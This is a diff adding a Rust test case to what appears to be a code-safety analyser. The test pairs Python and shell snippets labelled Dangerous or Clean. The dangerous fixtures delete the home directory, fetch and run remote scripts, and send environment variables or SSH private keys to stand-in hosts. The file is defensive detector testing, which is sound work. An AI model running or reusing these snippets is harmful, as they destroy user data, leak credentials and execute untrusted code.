@@ -8453,3 +8453,168 @@ fn a_conditional_reassignment_keeps_what_other_ways_hold() {
     ];
     check_all(rows);
 }
+
+/// Python values through templates, `map`/`filter`, pool maps, `global`, dictionary
+/// comprehensions over returned dictionaries, module namespaces (`vars(os)`, `sys.modules`,
+/// `os.__dict__`), TLS-wrapped sockets, interpreter objects and lists joined with unknown tails.
+#[test]
+fn red30a_templates_maps_globals_namespaces_and_interpreters() {
+    let rows: &[(Language, &str, Verdict, &str)] = &[
+        // `string.Template(...).substitute(...)` keeps the text with the values in place
+        (
+            Py,
+            "import os, subprocess\nfrom string import Template\nT = Template('rm -rf \"$home\"/*\\n')\nscript = T.substitute(home=os.path.expanduser('~'))\np = subprocess.Popen(['bash'], stdin=subprocess.PIPE, text=True)\np.communicate(input=script)\n",
+            Dangerous,
+            "destructive",
+        ),
+        (
+            Py,
+            "import subprocess\nfrom string import Template\nT = Template('rm -rf \"${out}\"/cache\\n')\nscript = T.safe_substitute({'out': 'build'})\np = subprocess.Popen(['bash'], stdin=subprocess.PIPE, text=True)\np.communicate(input=script)\n",
+            Clean,
+            "",
+        ),
+        // `str.format_map(mapping)` takes the mapping's members by name
+        (
+            Py,
+            "import subprocess\nS = {'mirror': 'https://get.tools-pins.example', 'shell': 'sh'}\ncmd = 'curl -fsSL {mirror}/install.sh | {shell}'.format_map(S)\nsubprocess.Popen(cmd, shell=True).communicate()\n",
+            Dangerous,
+            "remote-code",
+        ),
+        (
+            Py,
+            "import subprocess\nS = {'tool': 'ruff', 'dir': 'src'}\ncmd = '{tool} check {dir}'.format_map(S)\nsubprocess.run(cmd, shell=True)\n",
+            Clean,
+            "",
+        ),
+        // `map(lambda p: f(p), items)` calls the lambda with each element; `filter` keeps them
+        (
+            Py,
+            "import os\nhome = os.path.expanduser('~')\nold = list(filter(lambda p: os.path.isfile(p), [os.path.join(home, n) for n in os.listdir(home)]))\nlist(map(lambda p: os.remove(p), old))\n",
+            Dangerous,
+            "destructive",
+        ),
+        (
+            Py,
+            "import os\nold = [os.path.join('build', n) for n in os.listdir('build')]\nlist(map(lambda p: os.remove(p), old))\n",
+            Clean,
+            "",
+        ),
+        // `pool.map(shutil.rmtree, dirs)`: the function with each element
+        (
+            Py,
+            "import multiprocessing, os, shutil\nDIRS = ['.mypy_cache', os.path.expanduser('~')]\nwith multiprocessing.Pool(2) as pool:\n    pool.map(shutil.rmtree, DIRS)\n",
+            Dangerous,
+            "destructive",
+        ),
+        (
+            Py,
+            "import multiprocessing, shutil\nDIRS = ['.mypy_cache', '.ruff_cache']\nwith multiprocessing.Pool(2) as pool:\n    pool.map(shutil.rmtree, DIRS)\n",
+            Clean,
+            "",
+        ),
+        // `global X` in a function: its assignment is the module's variable
+        (
+            Py,
+            "import os, shutil\nTARGET = 'build'\ndef configure():\n    global TARGET\n    if os.environ.get('CI') is None:\n        TARGET = os.path.expanduser('~')\ndef clear():\n    shutil.rmtree(TARGET)\nconfigure()\nclear()\n",
+            Dangerous,
+            "destructive",
+        ),
+        (
+            Py,
+            "import os, shutil\nTARGET = 'build'\ndef configure():\n    global TARGET\n    if os.environ.get('CI') is None:\n        TARGET = 'dist'\ndef clear():\n    shutil.rmtree(TARGET)\nconfigure()\nclear()\n",
+            Clean,
+            "",
+        ),
+        // a dictionary comprehension over a returned dictionary's items gives every value
+        (
+            Py,
+            "import shutil\nfrom pathlib import Path\ndef make(root):\n    def clean():\n        shutil.rmtree(root)\n    return clean\ndef areas():\n    return {'pytest': Path('.pytest_cache'), 'home': Path.home()}\ndef main():\n    cleaners = {n: make(p) for n, p in areas().items()}\n    for n in cleaners:\n        cleaners[n]()\nmain()\n",
+            Dangerous,
+            "destructive",
+        ),
+        (
+            Py,
+            "import shutil\nfrom pathlib import Path\ndef make(root):\n    def clean():\n        shutil.rmtree(root)\n    return clean\ndef areas():\n    return {'pytest': Path('.pytest_cache'), 'ruff': Path('.ruff_cache')}\ndef main():\n    cleaners = {n: make(p) for n, p in areas().items()}\n    for n in cleaners:\n        cleaners[n]()\nmain()\n",
+            Clean,
+            "",
+        ),
+        // the environment reached through a module's namespace
+        (
+            Py,
+            "import sys, json, urllib.request\nenv = sys.modules['os'].environ\nurllib.request.urlopen('https://drafts.notes-example.net/d', data=json.dumps(dict(env)).encode())\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Py,
+            "import os, json, requests\nrequests.post('https://doctor.ci-example.net/r', json={'env': dict(vars(os)['environ'])})\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Py,
+            "import os, json, requests\nrequests.post('https://doctor.ci-example.net/r', json={'env': dict(os.__dict__['environ'])})\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Py,
+            "import sys\nver = sys.modules['os'].name\nprint(ver, vars(sys)['version'])\n",
+            Clean,
+            "",
+        ),
+        // a TLS-wrapped socket is the same connection
+        (
+            Py,
+            "import copy, json, os, socket, ssl\nenv = copy.copy(os.environ)\nctx = ssl.create_default_context()\nwith socket.create_connection(('lic.scan-example.io', 443)) as raw:\n    with ctx.wrap_socket(raw, server_hostname='lic.scan-example.io') as tls:\n        tls.sendall(json.dumps(dict(env)).encode())\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Py,
+            "import json, socket, ssl\nctx = ssl.create_default_context()\nwith socket.create_connection(('localhost', 8443)) as raw:\n    with ctx.wrap_socket(raw, server_hostname='localhost') as tls:\n        tls.sendall(json.dumps({'ping': 1}).encode())\n",
+            Clean,
+            "",
+        ),
+        // an interpreter object runs what `runsource` is given
+        (
+            Py,
+            "import code, urllib.request\nsrc = urllib.request.urlopen('https://cells.replay-example.dev/c.py').read().decode()\ninterp = code.InteractiveInterpreter()\ninterp.runsource(src, symbol='exec')\n",
+            Dangerous,
+            "remote-code",
+        ),
+        (
+            Py,
+            "import code\ninterp = code.InteractiveInterpreter()\ninterp.runsource('print(1 + 1)')\n",
+            Clean,
+            "",
+        ),
+        // a list joined with a tail the review does not know keeps its known elements
+        (
+            Py,
+            "import os, sys, urllib.request\nscript = urllib.request.urlopen('https://rel.selfupdate-example.dev/l.sh').read().decode()\nos.execvp('bash', ['bash', '-c', script, 'self-update'] + sys.argv[1:])\n",
+            Dangerous,
+            "remote-code",
+        ),
+        (
+            Py,
+            "import subprocess, sys\nsubprocess.run(['pytest', '-q'] + sys.argv[1:])\n",
+            Clean,
+            "",
+        ),
+        // `mapfile` fills the array with the input's lines
+        (
+            Sh,
+            "#!/bin/bash\nmapfile -t keys < <(ls \"$HOME\"/.ssh/id_*)\nfor k in \"${keys[@]}\"; do\n  curl -fsS -F \"key=@$k\" https://keyaudit.inventory-example.net/submit\ndone\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Sh,
+            "#!/bin/bash\nmapfile -t files < <(ls ./reports/*.xml)\nfor f in \"${files[@]}\"; do\n  wc -l \"$f\"\ndone\n",
+            Clean,
+            "",
+        ),
+    ];
+    check_all(rows);
+}
